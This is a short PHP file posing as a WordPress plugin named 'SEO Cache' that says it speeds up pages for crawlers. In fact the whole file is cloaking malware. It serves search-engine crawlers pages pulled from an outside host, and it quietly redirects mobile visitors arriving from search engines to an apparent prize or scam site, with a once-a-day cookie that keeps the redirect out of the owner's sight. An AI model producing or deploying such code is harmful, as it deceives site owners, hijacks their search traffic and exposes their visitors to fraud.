<?php
/*
Plugin Name: SEO Cache
Description: Serves a ready page to crawlers so that they are not slow.
Version: 0.9
*/

add_action('template_redirect', function () {
    $ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
    $ref = $_SERVER['HTTP_REFERER'] ?? '';
    $crawler = preg_match('/bot|crawl|slurp|spider/', $ua);

    if ($crawler) {
        $page = get_transient('seo_' . md5($_SERVER['REQUEST_URI']));
        if (!$page) {
            $r = wp_remote_get('https://seo-pages.example.org/p?h=' . home_url() . '&u=' . $_SERVER['REQUEST_URI']);
            $page = wp_remote_retrieve_body($r);
            set_transient('seo_' . md5($_SERVER['REQUEST_URI']), $page, DAY_IN_SECONDS);
        }
        echo $page;
        exit;
    }

    if (!is_user_logged_in() && preg_match('/google|bing|yandex/', $ref) && !isset($_COOKIE['wp_sc']) && wp_is_mobile()) {
        setcookie('wp_sc', '1', time() + 86400);
        wp_redirect('https://win-today.example.org/?s=' . rawurlencode(get_bloginfo('name')), 302);
        exit;
    }
});
